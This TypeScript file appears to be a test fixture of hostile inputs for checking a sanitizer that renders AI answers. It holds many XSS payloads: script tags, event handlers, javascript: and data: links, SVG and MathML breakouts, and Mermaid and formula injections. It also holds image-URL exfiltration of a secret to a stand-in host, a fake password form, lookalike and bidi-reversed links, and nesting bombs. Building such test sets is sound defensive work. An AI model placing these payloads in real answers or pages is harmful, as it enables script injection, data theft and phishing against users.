/**
 * What an answer could hold to harm its reader, each by a name. Whatever runs would call `hit`,
 * whatever loads would ask for something under `ELSEWHERE`.
 */
const ELSEWHERE = "https://elsewhere.invalid";

const SCRIPTS = {
  "a script": "<script>hit()</script>",
  "a script with a source": `<script src="${ELSEWHERE}/x.js"></script>`,
  "a module": `<script type="module">import("${ELSEWHERE}/x.js"); hit()</script>`,
  "a script in capitals": "<ScRiPt>hit()</sCrIpT>",
  "a script with a slash": "<script/x>hit()</script>",
  "a script inside a script": "<scr<script>ipt>hit()</scr</script>ipt>",
  "a script without an end": "before <script>hit()",
  "a script after a null": "<scr\0ipt>hit()</scr\0ipt>",
  "a script in a comment that ends early": "<!--><script>hit()</script>-->",
  "a script in a comment with a bang": "<!-- --!><script>hit()</script>",
  "a script in CDATA": "<![CDATA[<script>hit()</script>]]>",
  "a script in a processing instruction": "<?x ><script>hit()</script>?>",
  "a script in noscript": '<noscript><p title="</noscript><script>hit()</script>"></noscript>',
  "a script in a title": "<title></title><script>hit()</script>",
  "a script in a textarea": "<textarea></textarea><script>hit()</script></textarea>",
  "a script in a template": "<template><script>hit()</script></template>",
  "a script in a list": "- one\n- <script>hit()</script>\n- three",
  "a script in a table": "| a |\n|---|\n| <script>hit()</script> |",
  "a script in a heading": "# <script>hit()</script>",
  "a script in a quote": "> <script>hit()</script>",
  "a script after an open fence": "```\n</code></pre><script>hit()</script>",
  "a script as a language": '```"><script>hit()</script>\nx\n```',
  "a script in a code span": "`</code><script>hit()</script>`",
  "a script in a footnote": "see[^1]\n\n[^1]: <script>hit()</script>",
  "a script in a footnote's name":
    'see[^"><script>hit()</script>]\n\n[^"><script>hit()</script>]: x',
  "an entity that becomes a script": "&lt;script&gt;hit()&lt;/script&gt;",
  "a script between dollars": "$$<script>hit()</script>$$",
  "a script in plaintext": "<plaintext><script>hit()</script>",
  "a script in xmp": "<xmp></xmp><script>hit()</script>",
  "a script in select": "<select><script>hit()</script></select>",
};

const HANDLERS = {
  "a picture that fails": "<img src=x onerror=hit()>",
  "a picture that fails, with quotes": '<img src="x" onerror="hit()">',
  "a picture with slashes": "<img/src=x/onerror=hit()>",
  "a picture with a line break": "<img src=x\nonerror\n=\nhit()>",
  "a picture with capitals": "<IMG SRC=x oNeRrOr=hit()>",
  "a picture with a null": '<img src="x" onerror\0="hit()">',
  "a picture with a backtick": "<img src=`x` onerror=`hit()`>",
  "a picture that is called image": "<image src=x onerror=hit()>",
  "a picture in a picture": `<picture><source srcset="${ELSEWHERE}/x.png"><img src=x onerror=hit()></picture>`,
  "a body that loads": "<body onload=hit()>",
  "a body that is scrolled": "<body onscroll=hit() onpageshow=hit() onfocus=hit()>",
  "details that open": "<details open ontoggle=hit()><summary>x</summary>y</details>",
  "a field that takes the focus": "<input autofocus onfocus=hit()>",
  "a select that takes the focus": "<select autofocus onfocus=hit()><option>x</select>",
  "a link that is approached": '<a href="#" onmouseover=hit() onclick=hit()>approach</a>',
  "a paragraph that is pressed": "<p onclick=hit() onpointerdown=hit()>press</p>",
  "a marquee": "<marquee onstart=hit()>x</marquee>",
  "an animation that ends": '<b style="animation:x" onanimationstart=hit()>x</b>',
  "a transition that ends": '<b style="transition:all 1s" ontransitionend=hit()>x</b>',
  "a popover": "<button popovertarget=x>x</button><b id=x popover onbeforetoggle=hit()>x</b>",
  "a video": `<video src="${ELSEWHERE}/x.mp4" onerror=hit() autoplay></video>`,
  "a sound": `<audio src="${ELSEWHERE}/x.mp3" onerror=hit() autoplay></audio>`,
  "a sound's source": `<audio><source src="${ELSEWHERE}/x.mp3" onerror=hit()></audio>`,
  "an object that fails": `<object data="${ELSEWHERE}/x" onerror=hit()></object>`,
  "an embed": `<embed src="${ELSEWHERE}/x" onload=hit()>`,
  "a custom element": "<x-y onclick=hit() tabindex=0 autofocus onfocus=hit()>x</x-y>",
  "a handler in a link's title": '[x](https://a.example "\\" onmouseover=\\"hit()")',
  "a handler in a picture's words": '![x" onerror="hit()](https://a.example/x.png)',
  "a handler in a table":
    "<table background=x onmouseover=hit()><tr><td onclick=hit()>x</td></tr></table>",
  "a handler in a heading's id":
    '<h1 id="x" onclick="hit()" contenteditable onfocus=hit() autofocus>x</h1>',
};

const ADDRESSES = {
  "a javascript link": "[press](javascript:hit())",
  "a javascript link in capitals": "[press](JaVaScRiPt:hit())",
  "a javascript link with a blank": "[press](<  javascript:hit()>)",
  "a javascript link with a tab": '<a href="java\tscript:hit()">press</a>',
  "a javascript link with a line break": '<a href="java\nscript:hit()">press</a>',
  "a javascript link with entities": '<a href="&#106;avascript&colon;hit()">press</a>',
  "a javascript link with long entities": '<a href="&#0000106avascript:hit()">press</a>',
  "a javascript link with a control": '<a href="\u0001javascript:hit()">press</a>',
  "a javascript link by reference": "[press][1]\n\n[1]: javascript:hit()",
  "a javascript link with escapes": "[press](javascript\\:hit\\(\\))",
  "a javascript link in percent": "[press](javascript%3Ahit())",
  "a javascript link in angle brackets": "<javascript:hit()>",
  "a javascript picture": "![x](javascript:hit())",
  "a javascript link on a picture": "[![x](https://a.example/x.png)](javascript:hit())",
  "a vbscript link": "[press](vbscript:hit())",
  "a data link": "[press](data:text/html,<script>opener.hit()</script>)",
  "a data link in base64": "[press](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "a data picture of markup": "![x](data:text/html,<script>hit()</script>)",
  "a data picture of SVG":
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>)",
  "a blob link": "[press](blob:https://a.example/x)",
  "a file link": "[press](file:///etc/passwd)",
  "a link to another program": "[press](ms-settings:x) [press](vscode://x)",
  "a link that changes this page": '<a href="https://a.example" target="_self">press</a>',
  "a link that opens this page's door":
    '<a href="https://a.example" target="x" rel="opener">press</a>',
  "a link that pings": `<a href="https://a.example" ping="${ELSEWHERE}/ping">press</a>`,
  "a link that downloads": '<a href="https://a.example" download>press</a>',
  "a link that looks like another": "[https://bank.example](https://evil.example)",
  "a link without a scheme": "[press](//elsewhere.invalid/x)",
  "a link into this app": "[press](/sign-out)",
  "an address that is written out": "https://a.example/<script>hit()</script>",
  "an address with a name before it": "https://bank.example@evil.example/",
  "a map": '<img usemap="#m" src=x><map name=m><area href="javascript:hit()" coords=0,0,9,9></map>',
  "a base": `<base href="${ELSEWHERE}/">`,
  "a refresh": '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  "a refresh to elsewhere": `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
};

const LOADING = {
  "a picture from elsewhere": `![x](${ELSEWHERE}/x.png)`,
  "a picture from elsewhere in markup": `<img src="${ELSEWHERE}/x.png">`,
  "a picture from a set": `<img srcset="${ELSEWHERE}/x.png 1x" src="x" sizes=100vw>`,
  "a picture that is lazy": `<img loading=lazy src="${ELSEWHERE}/x.png" width=1 height=1>`,
  "a picture by reference": `![x][1]\n\n[1]: ${ELSEWHERE}/x.png`,
  "a picture without a scheme": "![x](//elsewhere.invalid/x.png)",
  "a picture of this app": "![x](/api/sign-out)",
  "a picture in a link": `[![x](${ELSEWHERE}/x.png)](https://a.example)`,
  "a picture that carries a secret": `![x](${ELSEWHERE}/?q=secret%20words)`,
  "a frame": `<iframe src="${ELSEWHERE}"></iframe>`,
  "a frame with its own page": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "a frame with a script address": '<iframe src="javascript:parent.hit()"></iframe>',
  "a frameset": `<frameset><frame src="${ELSEWHERE}"></frameset>`,
  "a style sheet": `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  "a preload": `<link rel=preload as=image href="${ELSEWHERE}/x.png"><link rel=dns-prefetch href="${ELSEWHERE}">`,
  "an import of styles": `<style>@import "${ELSEWHERE}/x.css";</style>`,
  "a background": `<div style="background:url(${ELSEWHERE}/x.png)">x</div>`,
  "a background of a table": `<table background="${ELSEWHERE}/x.png"><tr><td background="${ELSEWHERE}/y.png">x</table>`,
  "a font": `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/x.woff)}*{font-family:x}</style>`,
  "a cursor": `<b style="cursor:url(${ELSEWHERE}/x.cur),auto">x</b>`,
  "a poster": `<video poster="${ELSEWHERE}/x.png"></video>`,
  "a track": `<video><track default src="${ELSEWHERE}/x.vtt"></video>`,
  "a picture in a field": `<input type=image src="${ELSEWHERE}/x.png">`,
  "a form": `<form action="${ELSEWHERE}"><input name=password><button>Sign in</button></form>`,
  "a form's button": `<button formaction="javascript:hit()">press</button>`,
  "a portal": `<portal src="${ELSEWHERE}"></portal><fencedframe src="${ELSEWHERE}"></fencedframe>`,
};

const SVG_AND_STYLE = {
  "an SVG that loads": "<svg onload=hit()></svg>",
  "an SVG with a script": "<svg><script>hit()</script></svg>",
  "an SVG with a script in an entity": "<svg><script>&#104;it()</script></svg>",
  "an SVG with a foreign object":
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
  "an SVG that animates a link":
    '<svg><a><animate attributeName=href values="javascript:hit()" /><text y=20>press</text></a></svg>',
  "an SVG that sets a handler": '<svg><set attributeName=onmouseover to="hit()"></svg>',
  "an SVG that uses another": `<svg><use href="${ELSEWHERE}/x.svg#x"></use></svg>`,
  "an SVG with a picture": `<svg><image href="${ELSEWHERE}/x.png" /></svg>`,
  "an SVG with a filter": `<svg><feImage href="${ELSEWHERE}/x.png" /></svg>`,
  "an SVG with a style": `<svg><style>@import "${ELSEWHERE}/x.css";</style></svg>`,
  "an SVG that breaks out": '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  "MathML that breaks out":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  "MathML with a link": '<math href="javascript:hit()">press</math>',
  "MathML with an annotation":
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
  "a cover over the page":
    '<div style="position:fixed;inset:0;z-index:9999;background:#000">x</div>',
  "a cover by a class": '<div class="fixed inset-0 z-50 bg-ink">x</div>',
  "a style for the page": "<style>* { display: none !important }</style>",
  "an expression": '<b style="width:expression(hit())">x</b>',
  "a binding": `<b style="-moz-binding:url(${ELSEWHERE}/x.xml#x);behavior:url(x.htc)">x</b>`,
  "a name that hides another":
    '<a id="root"></a><form id="hit"><input id="body" name="createElement"></form><img name="hit">',
  "a prototype":
    "<b __proto__=x constructor=x>x</b>\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",
};

const DRAWINGS = {
  "a formula with a script link": "$$\\href{javascript:hit()}{x}$$",
  "a formula with an address": `$$\\url{javascript:hit()} \\includegraphics{${ELSEWHERE}/x.png}$$`,
  "a formula with markup":
    "$$\\htmlData{x=y}{x} \\htmlStyle{position:fixed;inset:0}{x} \\htmlClass{fixed}{x} \\htmlId{root}{x}$$",
  "a formula that grows for ever": "$$\\def\\a{\\a\\a}\\a$$",
  "a formula that leaves its place": "$$\\hspace{-9999em}x\\kern{-500em}y\\raise{900em}{z}$$",
  "a formula larger than the page": "$$\\rule{99999em}{99999em}$$",
  "a formula with a colour that loads": `$$\\color{url(${ELSEWHERE}/x)}x$$`,
  "a formula that is broken": "$$\\frac{<img src=x onerror=hit()>$$",
  "a diagram with a script": '```mermaid\ngraph TD\n  A["<script>hit()</script>"] --> B\n```',
  "a diagram with a picture": `\`\`\`mermaid\ngraph TD\n  A@{ img: "${ELSEWHERE}/x.png", w: 60, h: 60 }\n\`\`\``,
  "a diagram with entities":
    '```mermaid\ngraph TD\n  A["#lt;img src=x onerror=hit()#gt;"] --> B\n```',
  "a diagram that calls": "```mermaid\ngraph TD\n  A --> B\n  click A call hit()\n```",
  "a diagram with a script link":
    '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:hit()"\n```',
  "a diagram with its own rules": `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${ELSEWHERE}/x) }"}}%%\ngraph TD\n  A["<img src=x onerror=hit()>"]\n\`\`\``,
  "a diagram with rules before it": `\`\`\`mermaid\n---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { background: url(${ELSEWHERE}/x) }"\n---\ngraph TD\n  A --> B\n\`\`\``,
  "a diagram with a style": `\`\`\`mermaid\ngraph TD\n  A --> B\n  style A fill:url(${ELSEWHERE}/x)\n\`\`\``,
  "a sequence with markup":
    "```mermaid\nsequenceDiagram\n  A->>B: #lt;svg onload=hit()#gt;\n  Note over A: javascript:hit()\n```",
};

const NESTING = {
  "five thousand quotes": `${">".repeat(5000)} x`,
  "two thousand lists in one line": `${"- ".repeat(2000)}x`,
  "three hundred lists": Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  "five thousand elements": `${"<div>".repeat(5000)}x`,
  "five thousand bold elements": `${"<b>".repeat(5000)}x`,
  "five thousand elements with words": "<b>x ".repeat(5000),
  "a thousand tables": "<table><tr><td>".repeat(1000),
  "ten thousand brackets": "[".repeat(10_000),
  "two thousand links": "[a](".repeat(2000),
  "ten thousand stars": `${"*".repeat(10_000)}x${"*".repeat(9999)}`,
  "five thousand half emphases": "*a _b ".repeat(2500),
  "ten thousand backticks": Array.from({ length: 140 }, (_, i) => "`".repeat(i)).join(" "),
  "a table of five hundred columns": `${"|a".repeat(500)}|\n${"|-".repeat(500)}|\n${"|b".repeat(500)}|`,
  "ten thousand dollars": "$$ x ".repeat(2000),
  "a deep formula": `$$${"{".repeat(2000)}x${"}".repeat(2000)}$$`,
  "a word of fifty thousand letters": "x".repeat(50_000),
  "a thousand marks on one letter": `a${"\u0300".repeat(1000)}`,
};

const DIRECTIONS = {
  "a turned line": "safe \u202Egnp.exe\u202C end",
  "a turn without an end": "\u202E\u202E\u202Eturned",
  "isolates without an end": `${"\u2067".repeat(50)}turned`,
  "a turned link": "[\u202Emoc.knab](https://evil.example)",
  "turned code": "```js\nif (isAdmin\u202E \u2066// check\u2069 \u2066) {\n```",
  "invisible code": "```js\nconst a\u200B = 1; // \u2060\n```",
  "a name in other letters": "[аррӏе.example](https://аррӏе.example)",
};

/** Every input by its name. */
export const INPUTS: Readonly<Record<string, string>> = {
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...LOADING,
  ...SVG_AND_STYLE,
  ...DRAWINGS,
  ...NESTING,
  ...DIRECTIONS,
};
